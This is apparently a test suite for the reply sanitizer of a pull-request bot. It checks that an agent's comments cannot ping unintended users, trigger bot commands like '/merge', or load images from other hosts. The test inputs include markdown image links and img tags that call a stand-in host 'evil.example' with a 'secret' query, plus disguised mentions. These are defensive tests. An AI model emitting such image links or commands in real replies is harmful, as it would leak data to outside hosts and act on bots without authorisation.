"""What an agent says notifies nobody but the one whom it answers, and commands no bot."""

from __future__ import annotations

import re
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from plan_states import an_open_event

from prloom.core.delivery.reply_sanitizer import sanitize
from prloom.core.events import triage
from prloom.model.action import Comment
from prloom.model.event import Author, Event, Target

QUIET = "\u200b"


@pytest.mark.parametrize(
    "text",
    [
        "@ada/everybody",
        "thanks, @eve!",
        "(@eve)",
        "**@eve**",
        "@dependabot merge",
        "@annX",
        "> @eve said",
        "/@eve",
        "@eve_corp",
        "_@eve_",
        "foo_@eve",
    ],
)
def test_who_is_not_answered_is_not_notified(text: str) -> None:
    said = sanitize(text, to="ann")

    assert said == text.replace("@", f"@{QUIET}")


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("&#64;eve", "&#64;"),
        ("&#0064;eve", "&#0064;"),
        ("&#x40;eve", "&#x40;"),
        ("&#X40;eve", "&#X40;"),
        ("&commat;eve", "&commat;"),
        ("<p>&#64eve</p>", "&#64"),
        ("&#64;ann", "&#64;"),
        ("&#64;&#101;ve", "&#64;"),
        ("@&#101;ve", "@"),
        ("@<!-- -->eve", "@"),
        ("@ann&#98;ob", "@"),
        ("@ann<!-- -->bob", "@"),
        ("@ann\\-bob", "@"),
        ("<p>&amp@eve</p>", "@"),
        ("&lt@eve", "@"),
        ("https://@eve", "@"),
        ("https://example.com/<b></b>@eve", "@"),
        ("https://example.com/&#32;@eve", "@"),
        ("https://example.com@eve", None),
    ],
)
def test_a_mention_that_only_readers_see_notifies_nobody(text: str, at: str | None) -> None:
    expected = text if at is None else text.replace(at, f"{at}{QUIET}")

    assert sanitize(text, to="ann") == expected


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/a.png?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/a.png",
        "![1]\n\n[1]: https://evil.example/a.png",
        "\\\\![x](https://evil.example/a.png)",
        "![x](//evil.example/a.png)",
        "![x](https://github.com@evil.example/a.png)",
        "![x](https://github.com.evil.example/a.png)",
        "![x](https://github.com/&#46;&#46;/a.png)",
        "![x\ny](https://evil.example/a.png)",
        "![x](http://github.com/a.png)",
    ],
)
def test_an_image_of_another_host_is_not_fetched(text: str) -> None:
    assert sanitize(text, to="ann", host="github.com") == text.replace("![", f"!{QUIET}[")


@pytest.mark.parametrize(
    "tag",
    [
        "<img src=//evil.example>",
        "<IMG\nsrc='//evil.example'>",
        "<picture>",
        "<source srcset=//evil.example>",
        "<video>",
    ],
)
def test_a_tag_that_fetches_something_is_text(tag: str) -> None:
    assert sanitize(f"a {tag} b", to="ann", host="github.com") == f"a <{QUIET}{tag[1:]} b"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://github.com/o/r/raw/main/a.png)",
        "![](https://GitHub.com/user-attachments/assets/1?raw=true)",
        "use `![x](https://evil.example/a.png)` there",
        "```md\n![x](https://evil.example/a.png)\n```",
        "[a link](https://evil.example/a.png)",
        "really! [a link](https://example.com)",
        "an <image_path> of ours",
        "<br> thanks, @ann: ![x](https://github.com/a.png)",
        "`code`, thanks, @ann- ![x](https://github.com/a.png)",
    ],
)
def test_what_fetches_nothing_of_another_host_stays_as_it_is(text: str) -> None:
    assert sanitize(text, to="ann", host="github.com") == text


def test_without_a_forge_no_image_is_fetched() -> None:
    assert sanitize("![x](https://github.com/a.png)", to="ann") == f"!{QUIET}[x](https://github.com/a.png)"


@pytest.mark.parametrize(
    "text",
    [
        "Thanks, @ann!",
        "@Ann: done",
        "ann@example.com",
        "see https://example.com/@eve/why",
        "use `@property` there",
        "``a ` @eve`` is code",
        "```python\n@property\ndef x(self): ...\n```",
        "~~~\n@eve\n```\n@eve\n~~~",
        "an @ alone",
    ],
)
def test_what_notifies_nobody_else_stays_as_it_is(text: str) -> None:
    assert sanitize(text, to="ann") == text


def test_where_nobody_is_answered_nobody_is_notified() -> None:
    assert sanitize("@ann", to=None) == f"@{QUIET}ann"


@pytest.mark.parametrize(
    "text",
    [
        "`` @eve `",
        "```x``` @eve",
        "```\ncode\n```\n@eve",
        "```\ncode\n````\n@eve",
        "    ```\n@eve",
        "`a` @eve `b`",
        "a `\n` @eve `",
        "- a `\n- @eve ` b",
        "\\` @eve \\`",
        "<!--\n\n```\n-->\n@eve",
        "<details>\n```\n@eve\n```\n</details>",
        "text\x0c```\n@eve",
    ],
)
def test_what_only_looks_like_code_hides_no_mention(text: str) -> None:
    assert sanitize(text, to="ann") == text.replace("@", f"@{QUIET}")


@pytest.mark.parametrize("text", ["/merge", "  /approve now", "\t/lgtm", "/close!", "```\n/merge\n```", "a\r\n/merge"])
def test_no_line_begins_with_a_command(text: str) -> None:
    assert sanitize(text, to="ann") == text.replace("/", "\\/", 1)


@pytest.mark.parametrize("text", ["and/or", "/usr/bin/env", "say /merge", "> /merge", "// no", "/", "/etc.conf", "1/2"])
def test_a_stroke_that_commands_nothing_stays_as_it_is(text: str) -> None:
    assert sanitize(text, to="ann") == text


def test_however_often_what_is_code_changes_by_what_was_muted_nobody_else_is_notified() -> None:
    hides = "![a [b](c)](`) `" * 12  # each image hides a backtick, until it is none any more
    kept = "@ann ![x](https://github.com/a.png)"

    said = sanitize(f"{hides}@eve {kept}", to="ann", host="github.com")

    assert said == hides.replace("!", f"!{QUIET}") + f"@{QUIET}eve {kept}"


@given(
    st.lists(
        st.sampled_from(
            [
                "@",
                "eve",
                "&#64;",
                "&commat;",
                "![",
                "](https://github.com/a)",
                "<img",
                "`",
                "```",
                "~~~",
                "\n",
                "/",
                "merge",
                " ",
                "\r\n",
                "https://x/",
            ]
        )
    ).map("".join)
)
def test_nothing_is_lost_and_twice_is_as_good_as_once(text: str) -> None:
    said = sanitize(text, to="ann")

    assert said.replace(QUIET, "").replace("\\/", "/") == text
    assert sanitize(said, to="ann") == said
    assert not any(line.lstrip(" \t").startswith("/merge ") for line in said.splitlines())


@pytest.mark.parametrize("text", ["` `` " * 25_000, "@a-" * 75_000, " " * 250_000, "```\n" * 50_000, "@" * 250_000])
def test_no_text_takes_long(text: str) -> None:
    began = process_time()
    sanitize(text, to="ann")

    assert process_time() - began < 5


def test_a_reply_of_the_agent_is_sanitized() -> None:
    event = Event(id="e", source="github", type="pr_comment", title="t", author=Author("ann"))

    (action,) = triage.reply(event, an_open_event("e"), "@ann @eve\n/merge", Target("github", None))

    assert action.payload == Comment(f"@ann @{QUIET}eve\n\\/merge")


@pytest.mark.parametrize(
    ("url", "shown"),
    [("https://github.com/o/r/pull/7#issuecomment-1", True), ("https://forge.example/7", False), ("https://[", False)],
)
def test_a_reply_shows_images_of_the_forge_that_the_event_comes_from(url: str, shown: bool) -> None:  # noqa: FBT001 - parametrised
    event = Event(id="e", source="github", type="pr_comment", title="t", author=Author("ann"), url=url)

    (action,) = triage.reply(event, an_open_event("e"), "![x](https://github.com/a.png)", Target("github", None))

    assert (action.payload == Comment("![x](https://github.com/a.png)")) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[x](https://a.example/c)@eve",
        "[https://a.example/c](z)@eve",
        "|https://a.example/c|@eve|",
        "<br> `https://a.example/c`@eve",
        "xhttps://a.example/@eve",
        "&#00000000000000000064;eve",
        "- ```\n  x\n  ```\n@eve",
        "- a\n\n  ```\n  x\n\n@eve",
        "1. a\n\n      ```\n   x\n   ```\n@eve",
        "> ```\n> x\n@eve\n```\n",
    ],
)
def test_what_only_looks_like_a_part_of_an_address_or_of_code_is_a_mention(text: str) -> None:
    assert re.search(f"(?:@|64;){QUIET}eve", sanitize(text, to="ann"))


@pytest.mark.parametrize(
    "text",
    [
        "[posts](https://a.example/@eve) and https://a.example/@eve/post?x=1#y",
        "```suggestion\n@cached\ndef of(x: List<String>):\n    return <img src={x} />\n```\n",
    ],
)
def test_an_address_stays_whole_and_so_does_code_with_html_in_it(text: str) -> None:
    assert sanitize(text, to="ann") == text


@pytest.mark.parametrize(
    "text",
    [
        "- use `@property`\n  - or ``@cached` x``\n\n> `@property`\n> and `@cached`",
        "1. this:\n\n   ```python\n   @property\n   ```\n\ndone",
        "a span `of two\nlines @property` goes on",
        "a \\` and `@property`",
        "| a | b |\n|---|---|\n| `@property` | x |",
        "# `@property`",
        "[`@property`](https://a.example/b)",
    ],
)
def test_code_is_found_wherever_markdown_has_it(text: str) -> None:
    assert sanitize(text, to="ann") == text


@pytest.mark.parametrize(
    "text",
    [
        "[a](`) @eve `",
        "| `a | @eve` |\n|---|---|\n| `a | @eve` |",
        "https://a.example/`b @eve `",
        "www.a.example/`b @eve `",
        "    @eve",
        "![a [b](c)](`) `@eve`",
        "`" * 3 + "\n" + "a\n" * 70_000 + "@eve",
    ],
)
def test_where_a_forge_may_see_no_code_a_mention_is_muted(text: str) -> None:
    assert "@eve" not in sanitize(text, to="ann")


@pytest.mark.parametrize("text", ["`a`" * 5_000, "`a` " * 4_000, "`a\n" * 5_000, "- `a`\n" * 2_500, "[`" * 5_000])
def test_no_code_takes_long(text: str) -> None:
    began = process_time()
    sanitize(text, to="ann")

    assert process_time() - began < 5
